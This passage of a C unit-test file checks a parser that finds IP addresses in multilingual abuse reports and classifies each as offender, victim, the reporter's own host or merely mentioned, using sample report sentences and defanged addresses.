	(void)state;
	each_hinted(owned, COUNT_OF(owned), "198.51.100.9", IPSCAN_HINT_VICTIM);
	for (size_t i = 0; i < sizeof not_owned / sizeof not_owned[0]; i++) {
		print_message("%s\n", not_owned[i]);
		assert_false(hints_of(not_owned[i], "198.51.100.9") &
			     HINT(IPSCAN_HINT_VICTIM));
	}
}

/* A cue word inside a host name is no word: "bot" in
 * "www.botanic-shop.example" says nothing of the address after it. */
static void test_ipscan_no_cue_inside_a_host_name(void **state)
{
	(void)state;
	assert_int_equal(
	    score_of("www.botanic-shop.example 198.51.100.9", "198.51.100.9"),
	    score_of("www.garden-shop.example 198.51.100.9", "198.51.100.9"));
	assert_true(
	    score_of("bot 198.51.100.9", "198.51.100.9") >
	    score_of("www.garden-shop.example 198.51.100.9", "198.51.100.9"));
}

/* The line above a run of rows labels every row, not only the first
 * ("Reflector IP ..." over three rows; "Victim address" over two), and a
 * blank line ends the run. */
static void test_ipscan_label_above_rows_counts_for_each(void **state)
{
	static const char reflectors[] =
	    "The following ones are in your network:\n\n"
	    "Abusive hosts   Proto  Packets\n"
	    "192.0.2.33      NTP    1,904,220\n"
	    "192.0.2.34      NTP    1,877,003\n"
	    "192.0.2.190     SSDP   402,118\n";
	static const char victims[] = "Victim address      Packets\n"
				      "-----------------   -------\n"
				      "198.51.100.8        12\n"
				      "198.51.100.9        13\n\n"
				      "198.51.100.10       14\n";

	(void)state;
	assert_int_equal(score_of(reflectors, "192.0.2.190"),
			 score_of(reflectors, "192.0.2.33"));
	assert_true(score_of(reflectors, "192.0.2.34") > 0);
	assert_true(hints_of(victims, "198.51.100.9") &
		    HINT(IPSCAN_HINT_VICTIM));
	assert_false(hints_of(victims, "198.51.100.10") &
		     HINT(IPSCAN_HINT_VICTIM));
}

/* Dotted numbers under a "Build" or "Version" column are versions. */
static void test_ipscan_version_column_holds_no_address(void **state)
{
	static const char t[] = "IP address   Port  Build Exchange\n"
				"192.0.2.101  443   15.1.225.42\n"
				"192.0.2.102  443   15.2.221.12\n";

	(void)state;
	assert_int_equal(count_in(t), 2);
	assert_int_equal(score_of(t, "15.1.225.42"), INT32_MIN);
}

/* The reporter's own scanner, named so that it can be told apart, is no
 * offender: "The scans were performed from ...", "観測用サーバ". */
static void test_ipscan_reporters_scanner_is_mentioned(void **state)
{
	static const char *const texts[] = {
	    "The scans were performed from 198.51.100.9 (scanner.example).",
	    "Le scansioni sono effettuate dall'indirizzo 198.51.100.9.",
	    "当センターの観測用サーバのアドレスは 198.51.100.9 です。",
	    "檢測來源IP：198.51.100.9（本平台掃描主機，非攻擊來源）",
	    "Our scanners use the address 198.51.100.9 only.",
	    "Unsere Scanner nutzen ausschließlich die Adresse 198.51.100.9.",
	    "Nos scanners utilisent l'adresse 198.51.100.9.",
	    "Onze scanners gebruiken het adres 198.51.100.9.",
	};

	(void)state;
	each_hinted(texts, COUNT_OF(texts), "198.51.100.9",
		    IPSCAN_HINT_MENTIONED);
}

/* An aligned header is read by the columns a terminal shows, so a
 * Cyrillic one lines up with its rows; a column that names no role does
 * not take the header's other words ("C&C") as its label. */
static void test_ipscan_aligned_header_in_any_script(void **state)
{
	static const char t[] =
	    "IP-адрес узла     C&C-сервер            Соединений\n"
	    "192.0.2.71        203.0.113.199:4001    3 418\n"
	    "192.0.2.72        203.0.113.199:4001    2 907\n";

	(void)state;
	assert_true(hints_of(t, "203.0.113.199") & HINT(IPSCAN_HINT_MENTIONED));
	assert_false(hints_of(t, "192.0.2.71") & HINT(IPSCAN_HINT_MENTIONED));
	assert_false(hints_of(t, "192.0.2.72") & HINT(IPSCAN_HINT_MENTIONED));
	assert_true(score_of(t, "192.0.2.71") > score_of(t, "203.0.113.199"));
}

/* "sip:100@ADDR", "root@ADDR": the host a user is sought on is the
 * attacked one. */
static void test_ipscan_user_at_address_is_the_victim(void **state)
{
	static const char t[] = "Registration from '<sip:100@198.51.100.60>' "
				"failed for '192.0.2.140:5071'";

	(void)state;
	assert_true(hints_of(t, "198.51.100.60") & HINT(IPSCAN_HINT_VICTIM));
	assert_true(score_of(t, "192.0.2.140") > score_of(t, "198.51.100.60"));
}

/* The AS numbers named on lines without an address: "AS64500", "ASN
 * 64501", "asn: 64502"; not the word "as" before a number, not a row. */
static void test_ipscan_named_asns(void **state)
{
	static const char t[] = "Hosts in your network, AS64500, and ASN 64501;"
				" asn: 64502. Count them as 2 hosts.\n"
				"192.0.2.1  AS64999\n";
	uint32_t v[8];
	size_t n = ipscan_named_asns(t, strlen(t), v, 8, 0);

	(void)state;
	assert_int_equal(n, 3);
	assert_int_equal(v[0], 64500);
	assert_int_equal(v[1], 64501);
	assert_int_equal(v[2], 64502);
}

/* A blank line ends a table: its header says nothing further down. */
static void test_ipscan_table_ends_at_blank_line(void **state)
{
	const char *t = "src\tdst\n192.0.2.51\t198.51.100.52\n\n"
			"Also seen: 198.51.100.53\n";

	(void)state;
	assert_false(hints_of(t, "198.51.100.53") & HINT(IPSCAN_HINT_VICTIM));
	assert_true(hints_of(t, "198.51.100.52") & HINT(IPSCAN_HINT_VICTIM));
}

static void test_ipscan_skips_product_versions(void **state)
{
	(void)state;
	assert_int_equal(
	    count_in("UA: Mozilla/5.0 (X11) Chrome/123.0.0.0 Safari/537.36"),
	    0);
	assert_int_equal(count_in("agent version 4.2.1.0, build: 10.1.2.3"), 0);
	assert_int_equal(count_in("trap OID 1.3.6.1 and 1.3.6.1.4.1.311"), 0);
	assert_int_equal(count_in("on 2026.06.01 and 01.06.2026"), 0);
	/* A BitTorrent client's version in a copyright notice. */
	assert_int_equal(count_in("Client:          qBittorrent 4.6.2.0\n"), 0);
}

/* A lookup link ends in the address: a path is no product name. */
static void test_ipscan_keeps_address_in_url_path(void **state)
{
	(void)state;
	assert_true(score_of("see https://lookup.example/check/192.0.2.8",
			     "192.0.2.8") != INT32_MIN);
}

static void test_ipscan_label_on_previous_line_counts(void **state)
{
	(void)state;
	assert_true(score_of("Source IP:\n   192.0.2.8\n", "192.0.2.8") >=
		    IPSCAN_SELECT);
}

static void test_ipscan_finds_defanged_addresses(void **state)
{
	(void)state;
	assert_true(score_of("host 192.0.2[.]45 serves it", "192.0.2.45") !=
		    INT32_MIN);
	assert_true(score_of("host 191[.]101[.]50[.]140", "191.101.50.140") !=
		    INT32_MIN);
}

/* An address right after a key's colon ("IP:192.0.2.1", in any script);
 * not the tail of an IPv6 address, whose parts are hex digits, nor after
 * a word of hex digits only. */
static void test_ipscan_finds_address_after_key_colon(void **state)
{
	(void)state;
	assert_true(score_of("IP:192.0.2.46", "192.0.2.46") >= IPSCAN_SELECT);
	assert_true(score_of("Source IP:192.0.2.47 port 22", "192.0.2.47") >=
		    IPSCAN_SELECT);
	assert_true(score_of("・IPアドレス:192.0.2.48", "192.0.2.48") !=
		    INT32_MIN);
	assert_int_equal(score_of("abc:192.0.2.49", "192.0.2.49"), INT32_MIN);
	assert_int_equal(score_of("fingerprint ab:cd:192.0.2.50", "192.0.2.50"),
			 INT32_MIN);
}

static void test_ipscan_finds_bracketed_ipv6_in_url(void **state)
{
	(void)state;
	assert_true(score_of("see http://[2001:db8::5]:8080/x",
			     "2001:db8::5") >= IPSCAN_SELECT);
}

static void test_ipscan_canonicalises_uppercase_ipv6(void **state)
{
	(void)state;
	assert_true(score_of("src 2001:0DB8:0:0:0:0:0:00AB", "2001:db8::ab") !=
		    INT32_MIN);
}

static void test_ipscan_skips_ranges_and_networks(void **state)
{
	(void)state;
	assert_int_equal(count_in("NetRange: 192.0.2.0 - 192.0.2.255\n"), 0);
	assert_int_equal(count_in("range 198.51.100.0 - 198.51.100.255\n"), 0);
	assert_int_equal(count_in("inetnum: 10.0.0.0 - 10.255.255.255\n"), 0);
	/* Out of order around a dash, two cells of a flow table with an
	 * empty port between. */
	assert_int_equal(count_in("17:42:11  203.0.113.41    -    "
				  "198.51.100.18    -    GRE\n"),
			 2);
	/* In words, two ends of one range (the same /24, the second after
	 * the first); two hosts far apart are a path, both kept. */
	assert_int_equal(count_in("Our scanners use 192.0.2.200 to "
				  "192.0.2.203 only.\n"),
			 0);
	assert_int_equal(count_in("Unsere Scanner nutzen die Adressen "
				  "192.0.2.200 bis 192.0.2.203.\n"),
			 0);
	assert_int_equal(count_in("de 192.0.2.10 à 192.0.2.20\n"), 0);
	assert_int_equal(count_in("from 203.0.113.5 to 192.0.2.1\n"), 2);
	assert_int_equal(count_in("from 192.0.2.9 to 192.0.2.1\n"), 2);
	assert_int_equal(count_in("net 203.0.113.0/24 is ours\n"), 0);
	assert_int_equal(count_in("host 203.0.113.9/32 is ours\n"), 1);
}

static void test_ipscan_rejects_five_part_numbers(void **state)
{
	(void)state;
	assert_int_equal(count_in("id 92.222.64.5.4 and oid 1.3.6.1.4.1.311"),
			 0);
}

static void test_ipscan_ignores_unspecified_address(void **state)
{
	(void)state;
	assert_int_equal(count_in("| :: | 0.0.0.0 |"), 0);
}

static void test_ipscan_arrow_marks_destination(void **state)
{
	const char *t = "\"PORT HIT\": \"192.0.2.5:4000->198.51.100.7:445\"";

	(void)state;
	assert_true(score_of(t, "198.51.100.7") < score_of(t, "192.0.2.5"));
}

static void test_ipscan_refang_restores_dots_and_scheme(void **state)
{
	size_t n;
	char *s = ipscan_refang("hxxp://a[.]b(.)c[dot]d", 22, &n);

	(void)state;
	assert_string_equal(s, "http://a.b.c.d");
	assert_int_equal(n, strlen(s));
	free(s);
}

static void test_ipscan_caps_distinct_addresses(void **state)
{
	size_t cap = (size_t)IPSCAN_MAX_CANDS + 50;
	char *t = malloc(cap * 20);
	size_t o = 0;
	struct ip_cands c;

	(void)state;
	for (size_t i = 0; i < cap; i++)
		o += (size_t)sprintf(t + o, "10.%zu.%zu.%zu\n", i >> 16,
				     (i >> 8) & 255, i & 255);
	ipscan_init(&c);
	ipscan_text(&c, t, o, IPSCAN_TRUST_BODY);
	assert_int_equal(c.n, IPSCAN_MAX_CANDS);
	assert_true(c.truncated);
	ipscan_free(&c);
	free(t);
}

static void test_ipscan_cues_match_in_any_case(void **state)
{
	(void)state;
	assert_int_equal(score_of("SOURCE IP: 192.0.2.8", "192.0.2.8"),
			 score_of("source ip: 192.0.2.8", "192.0.2.8"));
	assert_true(score_of("SOURCE IP: 192.0.2.8", "192.0.2.8") >=
		    IPSCAN_SELECT);
}

static void test_ipscan_cue_counts_once(void **state)
{
	(void)state;
	assert_int_equal(
	    score_of("attacker attacker attacker 192.0.2.1", "192.0.2.1"),
	    score_of("attacker 192.0.2.1", "192.0.2.1"));
}

static void test_ipscan_far_cue_counts_half(void **state)
{
	const char *near = "source 192.0.2.1";
	const char *far = "source xxxxxxxx xxxxxxxx xxxxxxxx xxxxxxxx xxxxxxxx "
			  "192.0.2.1";

	(void)state;
	assert_int_equal(score_of(near, "192.0.2.1") - IPSCAN_TRUST_BODY, 25);
	assert_int_equal(score_of(far, "192.0.2.1") - IPSCAN_TRUST_BODY, 12);
}

static void test_ipscan_cue_needs_word_start(void **state)
{
	(void)state;
	assert_int_equal(score_of("nonsource 192.0.2.1", "192.0.2.1"),
			 IPSCAN_TRUST_BODY);
}

static void test_ipscan_skips_times_and_dates(void **state)
{
	(void)state;
	assert_int_equal(
	    count_in("at 10:00:01 on 2024-05-06 from 192.0.2.9 port 22"), 1);
}

static void test_ipscan_finds_ipv6_starting_with_letter(void **state)
{
	(void)state;
	assert_true(score_of("from abcd:ef01::1 again", "abcd:ef01::1") !=
		    INT32_MIN);
}

static void test_ipscan_finds_plain_and_defanged_together(void **state)
{
	const char *t = "source 192.0.2.1, see hxxp://198.51.100[.]7/x";

	(void)state;
	assert_true(score_of(t, "192.0.2.1") != INT32_MIN);
	assert_true(score_of(t, "198.51.100.7") != INT32_MIN);
}

static void test_ipscan_refang_copies_plain_text_unchanged(void **state)
{
	const char *t = "plain 192.0.2.1 (no markers) [here] http://x";
	size_t n;
	char *s = ipscan_refang(t, strlen(t), &n);

	(void)state;
	assert_string_equal(s, t);
	assert_int_equal(n, strlen(t));
	free(s);
}

struct seen {
	char text[8][IP_TEXT_MAX];
	size_t n, stop_after;
};

static bool note_address(const struct ip_addr *a, void *arg)
{
	struct seen *s = arg;

	if (s->n < 8)
		ip_format(a, s->text[s->n++]);
	return s->n == s->stop_after;
}

static void test_ipscan_find_sees_what_addresses_records(void **state)
{
	const char *t = "from ::ffff:192.0.2.4 and 198.51.100[.]9, "
			"net 203.0.113.0/24, 0.0.0.0 and 2001:db8::7";
	struct seen s = {.stop_after = 99};
	struct ip_cands c;
	char want[IP_TEXT_MAX];

	(void)state;
	assert_false(ipscan_find(t, strlen(t), note_address, &s));
	ipscan_init(&c);
	ipscan_addresses(&c, t, strlen(t));
	assert_int_equal(s.n, c.n);
	for (size_t i = 0; i < c.n; i++) {
		ip_format(&c.v[i].addr, want);
		assert_string_equal(s.text[i], want);
	}
	assert_string_equal(s.text[0], "192.0.2.4");
	ipscan_free(&c);
}

static void test_ipscan_find_stops_when_asked(void **state)
{
	const char *t = "192.0.2.1 192.0.2.2 192.0.2.3";
	struct seen s = {.stop_after = 2};

	(void)state;
	assert_true(ipscan_find(t, strlen(t), note_address, &s));
	assert_int_equal(s.n, 2);
}

/* "I am a customer of yours" in the languages that have the phrase, in
 * any case and at a word start only; a customer of someone else's, or
 * the phrase inside a word, is not. */
static bool says_yours(const char *t)
{
	return ipscan_victim_is_yours(t, strlen(t));
}

static void test_ipscan_victim_is_yours_in_many_languages(void **state)
{
	static const char *const yours[] = {
	    "Hej, vi er kunde hos jer og har en server.",
	    "Hej! Jag är kund hos er sedan 2019.",
	    "Dzień dobry, jesteśmy waszym klientem.",
	    "Dobrý den, jsme vaši zákazníci.",
	    "Здравствуйте, мы ваши клиенты.",
	    "ДОБРИЙ ДЕНЬ, Я ВАШ КЛІЄНТ.",
	    "Merhaba, müşterinizim ve sunucum saldırı altında.",
	    "I AM A CUSTOMER OF YOURS.",
	    "We're a hosting customer of yours (account SF-104882).",
	    "Somos clientes de colocation no vosso centro de dados.",
	    "We're a managed service provider and one of your customers "
	    "(account KC-1).",
	    "நாங்கள் உங்கள் கிளவுட் சேவையின் வாடிக்கையாளர் (கணக்கு எண்: "
	    "DCN-1).",
	    "Our server 203.0.113.210 (customer account NGC-20417) has been "
	    "down for hours.",
	    "Onze VPS (198.51.100.33, klantnummer QN-20817) wordt bestookt.",
	    "Добрий день, ми ваш клієнт (договір NG-1), у нас орендована "
	    "адреса 203.0.113.60.",
	    "Мы арендуем у вас сервер 203.0.113.60.",
	    "Somos clientes de ustedes (n.º de cliente 77-40218).",
	    "Notre serveur (numéro client 4471) est attaqué.",
	    "Il nostro server (codice cliente 99) è sotto attacco.",
	    "Nasz serwer (numer klienta 1203) jest atakowany.",
	    "Vår server (kundnummer 55102) attackeras.",
	    "We have the fixed IP 203.0.113.140 from you (contract no. "
	    "NG-448120).",
	    "Your support hotline told me to write to this address.",
	    "Пишу как ваш клиент (договор TW-2026-0457).",
	    "DDoS-атака на адресу вашого клієнта 203.0.113.7.",
	    "We see attacks on your customer 203.0.113.7 from our range.",
	    "Wir sehen Angriffe auf Ihren Kunden 203.0.113.7.",
	    "Nous voyons une attaque contre votre client 203.0.113.7.",
	    "It took part in SSH brute-force attacks against your host "
	    "203.0.113.7.",
	    "Wir sehen einen DDoS-Angriff auf eure Adresse 203.0.113.7.",
	    "A password-guessing campaign against your customer's server "
	    "203.0.113.7 has run for two days.",
	    "To be clear: the target is in your network, the source is not.",
	    "The VPS I rent from you (203.0.113.7) is flooded every night.",
	    "I'm a Prairie Cable customer (account 4401-22918) and my line "
	    "drops every evening.",
	    "Can you please block this attacker or change my IP address?",
	    "Our GitLab server is being attacked from outside since 8:00.",
	    "Unser GitLab-Server wird seit heute Morgen von außen "
	    "angegriffen.",
	    "Somos clientes (contrato de colocation, rack 14) e o servidor "
	    "está sob ataque.",
	    "Our server 203.0.113.7 is under DDoS attack (customer ID "
	    "KH-C-20931).",
	};
	/* A customer of someone else's, the phrase inside a word, a
	 * customer number asked for, a contract of another's. */
	static const char *const not_yours[] = {
	    "Vi er kunde hos en anden udbyder.",
	    "xvi er kunde hos jer",
	    "Their host attacked one of our customers.",
	    "The phishing page asks for the customer number and the PIN.",
	    "Indique su número de cliente y su PIN.",
	    "The contract with your customer ends in May.",
	    "Your customer 203.0.113.7 is attacking our network.",
	    "Ваш клиент 203.0.113.7 атакует наш сервер.",
	    /* our own earlier words, quoted back */
	    "> The attacks on your WordPress site come from 192.0.2.150.",
	    /* one address said not to be the recipient's, and the boilerplate
	     * of a misdirected report */
	    "The script fetches its payload from 192.0.2.144, which is not "
	    "in your network.",
	    "If the address does not belong to your network, please forward "
	    "this report.",
	};

	(void)state;
	for (size_t i = 0; i < sizeof yours / sizeof yours[0]; i++)
		if (!says_yours(yours[i]))
			fail_msg("not read as ours: %s", yours[i]);
	for (size_t i = 0; i < sizeof not_yours / sizeof not_yours[0]; i++)
		if (says_yours(not_yours[i]))
			fail_msg("read as ours: %s", not_yours[i]);
}

/* A line over rows that ends in their doers ("attacked from these
 * IPs:") makes them offenders, though its subject is the writer's own
 * server; a line that names only the writer's server does not. */
static void test_ipscan_heading_that_ends_in_the_doers(void **state)
{
	static const char *const doers[] = {
	    "Our server is being attacked from these IPs:\n\n"
	    "  198.51.100.7   14,220 ssh\n",
	    "My server gets hammered by the following addresses:\n\n"
	    "  198.51.100.7   14,220 ssh\n",
	    "Unser Server wird von diesen Adressen angegriffen:\n\n"
	    "  198.51.100.7   14220\n",
	    "Наш сервер атакуют с этих адресов:\n\n"
	    "  198.51.100.7   14220\n",
	};
	(void)state;
	for (size_t i = 0; i < sizeof doers / sizeof doers[0]; i++) {
		unsigned h = hints_of(doers[i], "198.51.100.7");
		if (!(h & HINT(IPSCAN_HINT_OFFENDER)) ||
		    (h & HINT(IPSCAN_HINT_VICTIM)))
			fail_msg("not the doer: %s", doers[i]);
	}
	/* Without a colon, at the end of a long sentence. */
	assert_true(hints_of("Unser IDS meldet seit dem 16.11.2026 wiederholt "
			     "Portscans aus Ihrem Netz, konkret von den "
			     "Adressen\n\n    198.51.100.7\n    "
			     "198.51.100.8\n",
			     "198.51.100.8") &
		    HINT(IPSCAN_HINT_OFFENDER));
	assert_false(hints_of("Logs from our server:\n\n"
			      "  198.51.100.7   14,220 ssh\n",
			      "198.51.100.7") &
		     HINT(IPSCAN_HINT_OFFENDER));
}

/* An address the words say is not attacked, is at another provider or
 * has stopped is only mentioned. */
static void test_ipscan_not_attacked_elsewhere_is_mentioned(void **state)
{
	(void)state;
	assert_true(hints_of("Our second server at another provider "
			     "(192.0.2.200) is not under attack.",
			     "192.0.2.200") &
		    HINT(IPSCAN_HINT_MENTIONED));
	assert_true(hints_of("The other address of the first report "
			     "(192.0.2.201) has indeed gone\nquiet, thanks.",
			     "192.0.2.201") &
		    HINT(IPSCAN_HINT_MENTIONED));
	assert_true(hints_of("Wir sehen einen DDoS-Angriff auf eure Adresse "
			     "192.0.2.80.",
			     "192.0.2.80") &
		    HINT(IPSCAN_HINT_VICTIM));
	assert_true(hints_of("DDoS on 192.0.2.80 since 08:12", "192.0.2.80") &
		    HINT(IPSCAN_HINT_VICTIM));
	assert_true(hints_of("なお、メール自体は別の送信元 (192.0.2.202) "
			     "から送られています。",
			     "192.0.2.202") &
		    HINT(IPSCAN_HINT_MENTIONED));
	assert_true(hints_of("Die Adresse 192.0.2.201 ist inzwischen ruhig.",
			     "192.0.2.201") &
		    HINT(IPSCAN_HINT_MENTIONED));
	assert_true(hints_of("Второй наш сервер у другого провайдера "
			     "(192.0.2.200) атакам не подвергается.",
			     "192.0.2.200") &
		    HINT(IPSCAN_HINT_MENTIONED));
}

/* A label joined to its value by leader dots ("Servidor de destino
 * ..... ADDR") still names it; a court's "no es objeto del presente
 * requerimiento" sets an address aside. */
static void test_ipscan_leader_dots_and_set_aside(void **state)
{
	(void)state;
	assert_true(hints_of("      Endereço IP ............ 192.0.2.7\n"
			     "      Serviço de destino ..... homebanking "
			     "(servidor 198.51.100.40:443)\n",
			     "198.51.100.40") &
		    HINT(IPSCAN_HINT_VICTIM));
	assert_true(hints_of("      Endereço IP ............ 192.0.2.7\n",
			     "192.0.2.7") &
		    HINT(IPSCAN_HINT_OFFENDER));
	assert_true(hints_of("La dirección IP 192.0.2.140, desde la cual se "
			     "conectaba el damnificado, no es objeto del "
			     "presente requerimiento.",
			     "192.0.2.140") &
		    (HINT(IPSCAN_HINT_MENTIONED) | HINT(IPSCAN_HINT_VICTIM)));
}

/* The controller a botnet's hosts talk to is named, not reported, in
 * English and French. */
static void test_ipscan_control_server_is_mentioned(void **state)
{
	(void)state;
	assert_true(hints_of("The devices talk to a control server outside "
			     "your network (203.0.113.88, port 48101).",
			     "203.0.113.88") &
		    HINT(IPSCAN_HINT_MENTIONED));
	assert_true(hints_of("Ils communiquent avec un serveur de contrôle "
			     "situé hors de votre réseau (203.0.113.88, port "
			     "48101).",
			     "203.0.113.88") &
		    HINT(IPSCAN_HINT_MENTIONED));
	assert_true(score_of("Ils communiquent avec un serveur de contrôle "
			     "situé hors de votre réseau (203.0.113.88).",
			     "203.0.113.88") < IPSCAN_SELECT);
}

/* Role words of Urdu, Arabic and Tamil from their own files; an address
 * "reported to its provider" elsewhere is only named. */
static void test_ipscan_urdu_arabic_tamil_roles(void **state)
{
	(void)state;
	const char *ur = "ملوث آئی پی پتے:\n"
			 "192.0.2.10    18,240 پیغامات\n"
			 "192.0.2.11    17,905 پیغامات\n";
	assert_true(score_of(ur, "192.0.2.11") >= IPSCAN_SELECT);
	assert_true(hints_of("نحيطكم علماً بأن أحد خوادمنا (العنوان "
			     "198.51.100.210) يتعرض لهجوم.",
			     "198.51.100.210") &
		    HINT(IPSCAN_HINT_VICTIM));
	assert_true(
	    hints_of("எங்கள் சர்வர் 192.0.2.66 மீது தாக்குதல்.", "192.0.2.66") &
	    HINT(IPSCAN_HINT_VICTIM));
	assert_true(hints_of("The phishing mails were sent from 198.51.100.77, "
			     "which we have reported to its provider "
			     "separately.",
			     "198.51.100.77") &
		    HINT(IPSCAN_HINT_MENTIONED));
}

/* What is done to an address, said after it, makes it the attacked
 * side. */
static void test_ipscan_attacked_said_after_the_address(void **state)
{
	(void)state;
	assert_true(hints_of("Our game server VPS 192.0.2.90 (customer no. "
			     "PH-1) is under a heavy DDoS attack.",
			     "192.0.2.90") &
		    HINT(IPSCAN_HINT_VICTIM));
	assert_true(hints_of("Since noon 192.0.2.91 is being flooded with "
			     "UDP.",
			     "192.0.2.91") &
		    HINT(IPSCAN_HINT_VICTIM));
}

/* Elsewhere in other words, and the reporter's own edge. */
static void test_ipscan_elsewhere_and_own_edge(void **state)
{
	(void)state;
	assert_true(hints_of("The kit loads images from a server at "
			     "198.51.100.144, which is not on your network.",
			     "198.51.100.144") &
		    HINT(IPSCAN_HINT_MENTIONED));
	assert_true(hints_of("Merchant site:  hosted with a local provider on "
			     "198.51.100.14 (cleaned up yesterday)",
			     "198.51.100.14") &
		    HINT(IPSCAN_HINT_MENTIONED));
	assert_true(hints_of("The callback points at 198.51.100.250, which "
			     "isn't in your network as far as I can tell.",
			     "198.51.100.250") &
		    HINT(IPSCAN_HINT_MENTIONED));
	assert_true(hints_of("A few lines from the edge logs (our edge "
			     "addresses are 2001:db8:77::10 and 192.0.2.200):",
			     "2001:db8:77::10") &
		    HINT(IPSCAN_HINT_MENTIONED));
}

/* The label of an address in other languages ("IP-Adresse: ADDR") names
 * what a report is about, as "IP address:" does; where a phishing kit
 * posts what it takes is the thief's server, elsewhere, named only. */
static void test_ipscan_address_labels_and_drop_servers(void **state)
{
	(void)state;
	assert_true(
	    hints_of("IP-Adresse:           192.0.2.77\n", "192.0.2.77") &
	    HINT(IPSCAN_HINT_OFFENDER));
	assert_true(hints_of("Adresse IP : 192.0.2.77\n", "192.0.2.77") &
		    HINT(IPSCAN_HINT_OFFENDER));
	assert_true(hints_of("The kit posts captured credentials to "
			     "hxxps://198.51.100.57/gate.php.",
			     "198.51.100.57") &
		    HINT(IPSCAN_HINT_MENTIONED));
	assert_true(
	    hints_of("Die Zugangsdaten werden per POST an "
		     "hxxp://198.51.100.57/gate/ask.php weitergeleitet.",
		     "198.51.100.57") &
	    HINT(IPSCAN_HINT_MENTIONED));
	assert_true(hints_of("Stran jih pošilja na naslov "
			     "hxxps://198.51.100.57/api/push.php.",
			     "198.51.100.57") &
		    HINT(IPSCAN_HINT_MENTIONED));
}

/* "ADDR is our uptime monitor" is the reporter's; "ADDR ... is not
 * infected" is only mentioned. */
static void test_ipscan_ours_before_and_after_the_address(void **state)
{
	(void)state;
	/* "our scanner ADDR": a tool of the writer's, named by one word
	 * after the possessive; with a verb between, the address is what
	 * the tool acted on. */
	assert_true(hints_of("Detected 2026-11-19 from our scanner 192.0.2.9.",
			     "192.0.2.9") &
		    HINT(IPSCAN_HINT_MENTIONED));
	assert_true(
	    hints_of("Geprüft von unserer Sandbox 192.0.2.9.", "192.0.2.9") &
	    HINT(IPSCAN_HINT_MENTIONED));
	assert_false(
	    hints_of("Our firewall blocked 192.0.2.9 today.", "192.0.2.9") &
	    HINT(IPSCAN_HINT_MENTIONED));
	assert_true(hints_of("(198.51.100.19 is our uptime monitor.)",
			     "198.51.100.19") &
		    HINT(IPSCAN_HINT_VICTIM));
	assert_true(hints_of("The resolver 198.51.100.53 is not infected.",
			     "198.51.100.53") &
		    HINT(IPSCAN_HINT_MENTIONED));
}

/* Words of the writer's own that call an address theirs disown it; the
 * same words on a quoted line are another writer's. */
static bool disowned(const char *text)
{
	struct ip_cands c;
	bool d;

	ipscan_init(&c);
	ipscan_text(&c, text, strlen(text), IPSCAN_TRUST_BODY);
	d = c.n == 1 && c.v[0].disowned;
	ipscan_free(&c);
	return d;
}

static void test_ipscan_disowned_only_in_own_words(void **state)
{
	(void)state;
	assert_true(disowned("198.51.100.77 is our own jump host.\n"));
	assert_false(disowned("> 198.51.100.77 is our own jump host.\n"));
	assert_false(disowned("198.51.100.77 keeps scanning us.\n"));
	/* One strong cue is enough where the words sum below the rest: a
	 * loader's URL, which weighs for hosting, said not to be ours. */
	assert_true(
	    disowned("Loader: hxxp://198.51.100.189/bins/mips (external "
		     "loader, not in your network)\n"));
}

int main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test(test_ipscan_attacker_outscores_victim),
	    cmocka_unit_test(test_ipscan_dutch_from_and_to),
	    cmocka_unit_test(test_ipscan_disowned_only_in_own_words),
	    cmocka_unit_test(test_ipscan_ours_before_and_after_the_address),
	    cmocka_unit_test(test_ipscan_victim_is_yours_in_many_languages),
	    cmocka_unit_test(test_ipscan_heading_that_ends_in_the_doers),
	    cmocka_unit_test(test_ipscan_address_labels_and_drop_servers),
	    cmocka_unit_test(test_ipscan_not_attacked_elsewhere_is_mentioned),
	    cmocka_unit_test(test_ipscan_leader_dots_and_set_aside),
	    cmocka_unit_test(test_ipscan_control_server_is_mentioned),
	    cmocka_unit_test(test_ipscan_urdu_arabic_tamil_roles),
	    cmocka_unit_test(test_ipscan_attacked_said_after_the_address),
	    cmocka_unit_test(test_ipscan_elsewhere_and_own_edge),
	    cmocka_unit_test(test_ipscan_passive_agent_is_the_offender),
	    cmocka_unit_test(test_ipscan_finding_verbs_make_no_passive),
	    cmocka_unit_test(test_ipscan_target_words_hint_victim),
	    cmocka_unit_test(test_ipscan_writers_own_and_customers_of_yours),
	    cmocka_unit_test(test_ipscan_arrow_after_host_name_resolves),
	    cmocka_unit_test(test_ipscan_plain_ip_column_lists_the_subjects),
	    cmocka_unit_test(test_ipscan_url_query_value_is_no_host),
	    cmocka_unit_test(
		test_ipscan_legitimate_site_and_unaffected_address),
	    cmocka_unit_test(test_ipscan_list_shares_the_words_before_it),
	    cmocka_unit_test(test_ipscan_reporters_customer_is_the_victim),
	    cmocka_unit_test(test_ipscan_reporters_own_machine_and_swedish),
	    cmocka_unit_test(test_ipscan_not_the_source_is_mentioned),
	    cmocka_unit_test(test_ipscan_column_names_without_accents),
	    cmocka_unit_test(test_ipscan_heading_over_blank_line),
	    cmocka_unit_test(test_ipscan_denial_across_a_line_wrap),
	    cmocka_unit_test(test_ipscan_role_words_of_more_languages),
	    cmocka_unit_test(test_ipscan_strongest_victim_is_still_named),
	    cmocka_unit_test(
		test_ipscan_in_or_outside_your_network_after_address),
	    cmocka_unit_test(test_ipscan_reporters_sandbox_is_mentioned),
	    cmocka_unit_test(test_ipscan_download_command_host_is_mentioned),
	    cmocka_unit_test(test_ipscan_resolvers_corrections_and_delistings),
	    cmocka_unit_test(test_ipscan_checked_from_across_a_date),
	    cmocka_unit_test(
		test_ipscan_denial_in_the_sentence_of_a_sole_address),
	    cmocka_unit_test(test_ipscan_denial_after_a_list),
	    cmocka_unit_test(test_ipscan_french_hosted_with_you),
	    cmocka_unit_test(test_ipscan_reporters_monitoring_host),
	    cmocka_unit_test(test_ipscan_czech_ukrainian_turkish_roles),
	    cmocka_unit_test(test_ipscan_cue_cut_by_a_line_wrap),
	    cmocka_unit_test(test_ipscan_hosted_elsewhere_is_mentioned),
	    cmocka_unit_test(test_ipscan_renting_customer_is_the_victim),
	    cmocka_unit_test(test_ipscan_roles_in_other_languages),
	    cmocka_unit_test(test_ipscan_owned_apposition_is_the_victim),
	    cmocka_unit_test(test_ipscan_no_cue_inside_a_host_name),
	    cmocka_unit_test(test_ipscan_label_above_rows_counts_for_each),
	    cmocka_unit_test(test_ipscan_version_column_holds_no_address),
	    cmocka_unit_test(test_ipscan_aligned_header_in_any_script),
	    cmocka_unit_test(test_ipscan_user_at_address_is_the_victim),
	    cmocka_unit_test(test_ipscan_named_asns),
	    cmocka_unit_test(test_ipscan_resolved_address_is_the_offender),
